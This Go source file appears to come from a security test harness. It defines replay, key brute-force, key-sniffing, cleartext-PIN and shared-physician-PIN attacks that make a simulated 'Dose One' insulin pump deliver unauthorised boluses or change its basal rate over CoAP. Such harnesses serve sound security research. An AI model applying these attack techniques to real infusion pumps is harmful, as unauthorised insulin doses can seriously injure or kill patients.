// SPDX-FileCopyrightText: 2026 The Myelin authors
// SPDX-License-Identifier: Apache-2.0

package legacy

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"math"
	"time"

	"github.com/myelin-health/myelin/device"
	link "github.com/myelin-health/myelin/link/coap"
	"github.com/myelin-health/myelin/link/therapy"
	"github.com/myelin-health/myelin/proto/coap"
)

// A phone is somebody who speaks plain CoAP.
type phone struct {
	*channel
	id uint16
}

// do sends a request and waits for its answer. An error response is errRefused.
func (p *phone) do(method coap.Code, path string, format uint32, payload []byte) ([]byte, error) {
	m := link.Request(method, path, format, payload)
	p.id++
	m.Type, m.ID, m.Token = coap.Confirmable, p.id, binary.BigEndian.AppendUint16(nil, p.id)
	b, err := m.Append(nil)
	if err != nil {
		return nil, err
	}
	if b, err = p.ask(b); err != nil {
		return nil, err
	}
	var a coap.Message
	switch {
	case a.Parse(b) != nil || !bytes.Equal(a.Token, m.Token):
		return nil, errSilent
	case a.Code.Class() != 2:
		return nil, errRefused
	}
	return a.Payload, nil
}

func (e *Env) phone(ctx context.Context) (*phone, error) {
	c, err := e.dial(ctx, counted)
	if err != nil {
		return nil, err
	}
	id, err := e.random(2)
	if err != nil {
		return nil, err
	}
	return &phone{c, binary.BigEndian.Uint16(id)}, nil
}

// byPhone is the run of an attack on CoAP.
func byPhone(do func(*phone) (how string, loot []byte, err error)) func(context.Context, *Env) (Result, error) {
	return func(ctx context.Context, env *Env) (Result, error) {
		p, err := env.phone(ctx)
		if err != nil {
			return Result{}, err
		}
		defer p.Close()
		return result(do(p))
	}
}

// asked is the encoding of a command.
func asked(v device.Verb, value string) []byte {
	q, err := device.ParseQuantity(value)
	if err != nil {
		panic(err) // ours
	}
	return (&therapy.Request{Verb: v, Value: q}).Append(nil)
}

// seedOfBen is the chance that Ben's phone had.
const seedOfBen = 0xb3a7

// appUse is the pump's own app: it pairs, and gives a bolus.
func appUse(ctx context.Context, env *Env) error {
	p, err := env.phone(ctx)
	if err != nil {
		return err
	}
	defer p.Close()
	key := AppKey(seedOfBen)
	if _, err := p.do(coap.POST, "/pair", formatBytes, key); err != nil {
		return err
	}
	c := asked(device.DeliverBolus, "4.0 U")
	_, err = p.do(coap.POST, "/secure", formatBytes, append(c, codeOf(key, c)...))
	return err
}

// heard returns the payload of the last message to a path that was overheard.
func (p *phone) heard(path string) ([]byte, error) {
	for i := len(p.env.Overheard) - 1; i >= 0; i-- {
		var m coap.Message
		if m.Parse(p.env.Overheard[i]) == nil && link.Path(&m) == path && m.Payload != nil {
			return m.Payload, nil
		}
	}
	return nil, errSilent
}

func moreInsulin(b, a DoseOneState, _ []byte) (bool, string) {
	return ordered(b.PumpState, a.PumpState, nil)
}

// provenBolus gives a bolus under a key that is somebody's.
func (p *phone) provenBolus(key []byte, value string) error {
	c := asked(device.DeliverBolus, value)
	_, err := p.do(coap.POST, "/secure", formatBytes, append(c, codeOf(key, c)...))
	return err
}

// coapAttacks are those on the Dose One.
var coapAttacks = []Attack{
	{
		Row: "A15", Name: "replay", Device: "dose-one", Realism: Wire, About: "a command that was heard again, in another connection",
		use: appUse,
		Run: byPhone(func(p *phone) (string, []byte, error) {
			p.env.pause(time.Hour)
			const how = "a bolus by a command that was recorded"
			c, err := p.heard("/secure")
			if err == nil {
				_, err = p.do(coap.POST, "/secure", formatBytes, c)
				return how, nil, err
			}
			for _, b := range p.env.Overheard { // whatever it is: as it is
				a, err := p.ask(b)
				var m coap.Message
				if err != nil || m.Parse(a) != nil || m.Code.Class() != 2 {
					return "", nil, errSilent
				}
			}
			return how, nil, err
		}),
		hurt: hurt(moreInsulin),
	},
	{
		Row: "A16", Name: "brute-force", Device: "dose-one", Realism: Wire, About: "keys that follow from sixteen bits, all of which are tried",
		use: appUse,
		Run: byPhone(func(p *phone) (string, []byte, error) {
			c, err := p.heard("/secure")
			if err != nil || len(c) < CodeSize {
				return "", nil, errSilent
			}
			n := len(c) - CodeSize
			for seed := 0; seed <= math.MaxUint16; seed++ {
				if key := AppKey(uint16(seed)); bytes.Equal(codeOf(key, c[:n]), c[n:]) {
					return fmt.Sprintf("the key found after %d tries, and a bolus under it", seed+1), nil, p.provenBolus(key, "9 U")
				}
			}
			return "", nil, errSilent
		}),
		hurt: hurt(func(b, a DoseOneState, _ []byte) (bool, string) {
			_, how := moreInsulin(b, a, nil)
			return a.ByKey > b.ByKey && a.Ordered > b.Ordered, how + ", under the app's key"
		}),
	},
	{
		Row: "A17", Name: "sniff", Device: "dose-one", Realism: Wire, About: "the app sends its key in clear, to whoever says that he is the pump",
		use: appUse,
		Run: byPhone(func(p *phone) (string, []byte, error) {
			key, err := p.heard("/pair")
			if err != nil || len(key) != KeySize {
				return "", nil, errSilent
			}
			return "a bolus under a key that was heard", key, p.provenBolus(key, "7 U")
		}),
		hurt: hurt(func(b, a DoseOneState, _ []byte) (bool, string) {
			_, how := moreInsulin(b, a, nil)
			return a.ByKey > b.ByKey && a.Ordered > b.Ordered, how + ", under the app's key"
		}),
	},
	{
		Row: "A18", Name: "pin", Device: "dose-one", Realism: Wire, About: "the PIN in clear, and nobody but the app asks for it",
		Run: byPhone(func(p *phone) (string, []byte, error) {
			pin, err := p.do(coap.GET, "/pin", 0, nil)
			if err == nil {
				_, err = p.do(coap.POST, "/therapy", formatCBOR, asked(device.SetLimit, "60 U"))
			}
			if err == nil {
				_, err = p.do(coap.POST, "/therapy", formatCBOR, asked(device.DeliverBolus, "25 U"))
			}
			return "the PIN read, the limit raised without it, and 25 U", pin, err
		}),
		hurt: hurt(func(b, a DoseOneState, loot []byte) (bool, string) {
			return len(loot) == PINSize && a.PINTold > b.PINTold && a.HighestBol == 60_000 && a.Ordered >= b.Ordered+25_000, "PIN told in clear; limit raised and 25 U ordered without it"
		}),
	},
	{
		Row: "A19", Name: "physician", Device: "dose-one", Realism: Wire, About: "the physician's menu opens for a PIN that all pumps have",
		Run: byPhone(func(p *phone) (string, []byte, error) {
			c := asked(device.SetBasalRate, "5 U/h")
			if _, err := p.do(coap.POST, "/therapy", formatCBOR, c); err == nil {
				return "basal changed even without the menu", nil, nil
			}
			_, err := p.do(coap.POST, "/physician", formatBytes, append([]byte(physicianPIN), c...))
			return "basal 5 U/h by the PIN of another pump", nil, err
		}),
		hurt: hurt(func(b, a DoseOneState, _ []byte) (bool, string) {
			return a.Physician > b.Physician && a.Basal == 5000, "programmed basal " + units(b.Basal) + "/h, now " + units(a.Basal) + "/h"
		}),
	},
}
